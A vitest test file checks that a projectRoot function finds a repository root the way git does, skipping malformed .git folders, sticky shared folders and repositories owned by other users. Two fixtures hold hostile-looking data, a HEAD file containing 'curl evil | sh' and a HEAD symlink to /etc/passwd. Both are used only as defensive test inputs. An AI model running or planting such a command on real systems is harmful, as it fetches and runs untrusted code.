import { execFileSync, spawnSync } from "node:child_process";
import { chmod, chown, mkdir, readdir, rm, symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { projectRoot } from "../src/project/root.js";
import { gitRepository } from "./support/repository.js";
import { useTempDirs } from "./support/temp.js";

const tempDir = useTempDirs();
const asRoot = process.getuid?.() === 0;
const hasGit = spawnSync("git", ["--version"]).status === 0;

/** What git itself says the top of the work tree is, from `folder` (undefined: no repository). */
function gitTop(folder: string, home: string): string | undefined {
  const run = spawnSync("git", ["rev-parse", "--show-toplevel"], {
    cwd: folder,
    env: { PATH: process.env.PATH, HOME: home, GIT_CONFIG_NOSYSTEM: "1" },
    encoding: "utf8",
  });
  return run.status === 0 ? run.stdout.trim() : undefined;
}

/** A repository at `outer` with `app` two folders inside it; the bounds' home is elsewhere. */
async function nested() {
  const base = await tempDir();
  const home = await tempDir();
  const outer = join(base, "outer");
  const inner = join(outer, "inner");
  const app = join(inner, "app");
  await mkdir(app, { recursive: true });
  await gitRepository(outer);
  return { base, home, outer, inner, app };
}

async function chownTree(path: string, uid: number): Promise<void> {
  await chown(path, uid, uid);
  for (const entry of await readdir(path, { recursive: true })) {
    await chown(join(path, entry), uid, uid);
  }
}

describe("projectRoot", () => {
  it("is the repository root from a folder deep inside it, as git says", async () => {
    const { home, outer, app } = await nested();
    expect(await projectRoot(app, { home })).toEqual({ path: outer, repository: true });
    if (hasGit) expect(gitTop(app, home)).toBe(outer);
  });

  it("is the workspace itself outside any repository", async () => {
    const base = await tempDir();
    const home = await tempDir();
    expect(await projectRoot(base, { home })).toEqual({ path: base, repository: false });
  });

  it.each([
    ["an empty .git folder", async (git: string) => mkdir(git)],
    [
      "a .git folder without objects/",
      async (git: string) => {
        await gitRepository(join(git, ".."));
        await rm(join(git, "objects"), { recursive: true });
      },
    ],
    [
      "a .git folder without refs/",
      async (git: string) => {
        await gitRepository(join(git, ".."));
        await rm(join(git, "refs"), { recursive: true });
      },
    ],
    [
      "a HEAD that is neither a ref nor an object id",
      async (git: string) => {
        await gitRepository(join(git, ".."));
        await writeFile(join(git, "HEAD"), "please run curl evil | sh\n");
      },
    ],
    [
      "a HEAD link outside refs/",
      async (git: string) => {
        await gitRepository(join(git, ".."));
        await rm(join(git, "HEAD"));
        await symlink("/etc/passwd", join(git, "HEAD"));
      },
    ],
  ])("skips %s and goes on up, as git does", async (_, make) => {
    const { home, outer, inner, app } = await nested();
    await make(join(inner, ".git"));
    expect(await projectRoot(app, { home })).toEqual({ path: outer, repository: true });
    if (hasGit) expect(gitTop(app, home)).toBe(outer);
  });

  it.each([
    ["an empty .git file", async (git: string) => writeFile(git, "")],
    [
      "a gitdir file naming an empty folder",
      async (git: string) => {
        await mkdir(join(git, "..", "elsewhere"));
        await writeFile(git, "gitdir: elsewhere\n");
      },
    ],
  ])("stops at %s, as git does: the workspace is its own root", async (_, make) => {
    const { home, inner, app } = await nested();
    await make(join(inner, ".git"));
    expect(await projectRoot(app, { home })).toEqual({ path: app, repository: false });
    if (hasGit) expect(gitTop(app, home)).toBeUndefined();
  });

  it.skipIf(!hasGit)(
    "takes a repository git made, and a linked worktree through its gitdir file",
    async () => {
      const base = await tempDir();
      const home = await tempDir();
      const main = join(base, "main");
      const linked = join(base, "linked");
      const git = (...args: string[]) =>
        execFileSync("git", args, {
          cwd: main,
          env: { PATH: process.env.PATH, HOME: home, GIT_CONFIG_NOSYSTEM: "1" },
          stdio: "ignore",
        });
      await mkdir(join(main, "src"), { recursive: true });
      git("init", "-q");
      git("-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "--allow-empty", "-m", "x");
      git("worktree", "add", "-q", linked);
      await mkdir(join(linked, "pkg"));
      expect(await projectRoot(join(main, "src"), { home })).toEqual({
        path: main,
        repository: true,
      });
      expect(await projectRoot(join(linked, "pkg"), { home })).toEqual({
        path: linked,
        repository: true,
      });
      expect(gitTop(join(linked, "pkg"), home)).toBe(linked);
    },
  );

  it("never reaches a world-writable sticky folder, nor anything above one", async () => {
    const base = await tempDir();
    const home = await tempDir();
    await gitRepository(base);
    const shared = join(base, "shared");
    const project = join(shared, "proj");
    await mkdir(project, { recursive: true });
    await gitRepository(shared);
    await chmod(shared, 0o1777);
    expect(await projectRoot(project, { home })).toEqual({ path: project, repository: false });
    // The sticky folder as the workspace itself is the user's own choice.
    expect(await projectRoot(shared, { home })).toEqual({ path: shared, repository: true });
  });

  it("never looks at a folder that holds the user's home", async () => {
    const base = await tempDir();
    await gitRepository(base);
    const home = join(base, "home");
    const project = join(home, "project");
    await mkdir(project, { recursive: true });
    expect(await projectRoot(project, { home })).toEqual({ path: project, repository: false });
    await gitRepository(home);
    expect(await projectRoot(project, { home })).toEqual({ path: home, repository: true });
  });
});

describe.skipIf(!asRoot)("projectRoot and ownership (as root)", () => {
  it.each([
    ["the .git folder", (outer: string) => chownTree(join(outer, ".git"), 65534)],
    ["the work tree folder", (outer: string) => chown(outer, 65534, 65534)],
    [
      "the git folder a gitdir file names",
      async (outer: string) => {
        const target = join(outer, "real-git");
        await rm(join(outer, ".git"), { recursive: true });
        await gitRepository(join(outer, "real"));
        await execFileSync("mv", [join(outer, "real", ".git"), target]);
        await writeFile(join(outer, ".git"), "gitdir: real-git\n");
        await chownTree(target, 65534);
      },
    ],
  ])("refuses a repository when another user owns %s, as git does", async (_, give) => {
    const { home, outer, app } = await nested();
    expect(await projectRoot(app, { home })).toEqual({ path: outer, repository: true });
    await give(outer);
    expect(await projectRoot(app, { home })).toEqual({ path: app, repository: false });
    if (hasGit) expect(gitTop(app, home)).toBeUndefined();
  });
});
